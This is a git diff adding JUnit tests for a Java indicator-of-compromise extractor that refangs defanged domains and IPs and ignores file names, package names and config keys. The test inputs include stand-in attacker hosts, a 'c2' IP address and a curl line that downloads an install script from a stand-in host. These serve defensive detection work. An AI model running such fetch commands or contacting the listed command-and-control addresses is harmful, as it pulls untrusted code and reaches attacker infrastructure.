@@ -11,6 +11,7 @@ import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class IndicatorExtractorTest {
     private final IndicatorExtractor extractor = new IndicatorExtractor(false);
@@ -146,6 +147,123 @@ class IndicatorExtractorTest {
         Extraction extraction = extractor.extract("see values.yaml and app.py, then https://sh.rustup.rs");
 
         assertThat(extraction.indicators()).containsExactly("sh.rustup.rs");
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+        "get it from hxxps://evil[.]com/x now    | evil.com       | hxxps://evil[.]com   | 21",
+        "hxxp://evil(.)com                       | evil.com       | hxxp://evil(.)com    | 8",
+        "hXXps[://]evil{.}com/p                  | evil.com       | hXXps[://]evil{.}com | 11",
+        "http[:]//evil[dot]com                   | evil.com       | http[:]//evil[dot]com | 10",
+        "fxp://files[.]evil[.]org/drop           | files.evil.org | fxp://files[.]evil[.]org | 7",
+        "hxxps://evil.com/x                      | evil.com       | hxxps://evil.com     | 9",
+        "c2: 91.215.85[.]147                     | 91.215.85.147  | 91.215.85[.]147      | 5",
+        "c2: 91[.]215[.]85[.]147[:]8443          | 91.215.85.147  | 91[.]215[.]85[.]147  | 5",
+        "beacon evil[.]co[.]uk daily             | evil.co.uk     | evil[.]co[.]uk       | 8",
+        "beacon EVIL(dot)NET daily               | evil.net       | EVIL(dot)NET         | 8",
+    })
+    void defangedIndicatorsAreReadPlainlyAndKeepTheirWrittenForm(String text, String indicator, String written,
+            int column) {
+        assertThat(extractor.extract(text).found()).containsExactly(new Found(indicator, 1, column, 1, written));
+    }
+
+    @Test
+    void aPlainAndADefangedWritingAreOneIndicatorWrittenAsFirstFound() {
+        Extraction extraction = extractor.extract("""
+                first: evil.com
+                then: evil[.]com and hxxps://evil[.]com/x
+                ip: 91.215.85[.]147, later 91.215.85.147
+                """);
+
+        assertThat(extraction.found()).containsExactly(
+                new Found("evil.com", 1, 8, 3, null),
+                new Found("91.215.85.147", 3, 5, 2, "91.215.85[.]147"));
+        assertThat(extraction.locations("notes.md").get("91.215.85.147"))
+                .isEqualTo(new Location("notes.md", 3, 5, 2, "91.215.85[.]147"));
+    }
+
+    @Test
+    void markersOutsideNamesAreLeftAlone() {
+        // a template's {{.}}, a regular expression's (.), a lone [.]: nothing to refang, nothing found
+        assertThat(extractor.extract("tpl: {{.}} re: ^(.)+$ list: [.] end [dot]\n").found()).isEmpty();
+        assertThat(Refanged.of("{{.}} ^(.)+$ [.] [dot]").changed()).isFalse();
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+        "proxy_pass https://static.cdn-edge77.net;        | static.cdn-edge77.net",
+        "(see https://evil.com)                           | evil.com",
+        "\"https://evil.com\",                          | evil.com",
+        "at https://evil.com. Then                        | evil.com",
+        "urls: https://a-evil.com,https://b-evil.com      | a-evil.com b-evil.com",
+        "<a href='https://evil.com/x'>                    | evil.com",
+        "jdbc:postgresql://db.evil.com:5432/app           | db.evil.com",
+        "git+https://git.evil.com/r.git@v1                | git.evil.com",
+        "https://user:pw@evil.com/                        | evil.com",
+    })
+    void trailingPunctuationIsNoPartOfAUrlsHost(String text, String hosts) {
+        assertThat(extractor.extract(text).indicators()).containsExactly(hosts.split(" "));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "GET /wp-login.php and /upload.aspx", // no such top-level domains
+        "helm upgrade app ./chart --set image.tag=1.4.2",
+        "zope.interface==6.2 and backports.zoneinfo; python_version < '3.9'",
+        "COPY deploy.sh setup.py ./", // .sh and .py are top-level domains, but these are files
+        "see README.md, Dockerfile.dev and Main.java", // written in mixed case
+        "COPY ./scripts/get.evil.sh /opt/", // a path segment
+        "name: ${app.name} and {{ include \"chart.name\" . }}", // placeholders and template actions
+        "def image = docker.build('app')", // a call
+        "spring.application.name=billing", // a key assigned
+        "  app.kubernetes.io/name: web", // a key of a mapping
+        "  \"socket.io\": \"^4.7.4\",", // a JSON key
+        "com.google.cloud:google-cloud-storage:2.30.0", // a Maven coordinate
+        "at com.acme.shop.checkout", // a reverse-DNS package
+        "name = var.name", // a variable
+        "ver v91.2.3.4, openresty-1.21.4.3, Chrome/120.0.0.0, pkg==91.2.3.4", // versions, not addresses
+    })
+    void filesPackagesKeysAndVariablesAreNotIndicators(String text) {
+        Extraction extraction = extractor.extract(text);
+
+        assertThat(extraction.indicators()).isEmpty();
+        assertThat(extraction.skipped()).isZero();
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+        "host: example.app                         | example.app",
+        "mirror: evil.co.in, not requirements.in   | evil.co.in",
+        "curl -s get.evil.sh/install -o i.sh      | get.evil.sh",
+        "upstream evil.sh:8443                     | evil.sh",
+        "REGISTRY=${REGISTRY:-registry.evil.io}    | registry.evil.io",
+        "dial tcp: lookup c2.evil.com: no such host | c2.evil.com",
+        "FROM ghcr.io/acme/app:1.2                 | ghcr.io",
+        "sed 's/old.mirror.net/new.mirror.net/'    | old.mirror.net new.mirror.net",
+        "src=//cdn.evil.com/x.js                   | cdn.evil.com",
+        "dns: 91.2.3.4, ip=91.2.3.5                | 91.2.3.4 91.2.3.5",
+    })
+    void namesAndAddressesWrittenAsSuchAreTaken(String text, String indicators) {
+        assertThat(extractor.extract(text).indicators()).containsExactly(indicators.split(" "));
+    }
+
+    @Test
+    void urlHostsUnderNoExistingTopLevelDomainAreLocal() {
+        String text = "a: http://registry.corp-net:5000/x\nb: https://api.svc-mesh/v1\nc: https://evil.com/\n";
+
+        Extraction extraction = extractor.extract(text);
+
+        assertThat(extraction.indicators()).containsExactly("evil.com");
+        assertThat(extraction.skipped()).isEqualTo(2);
+        assertThat(new IndicatorExtractor(true).extract(text).indicators())
+                .containsExactly("registry.corp-net", "api.svc-mesh", "evil.com");
+    }
+
+    @Test
+    void everyFileExtensionOnTheListIsATopLevelDomain() {
+        // the list only holds what the public suffix list would otherwise let through
+        assertThat(BareNames.FILE_EXTENSIONS).allSatisfy(extension ->
+                assertThat(PublicSuffixes.registrySuffix("x." + extension)).isEqualTo(extension));
     }
 
     @Test
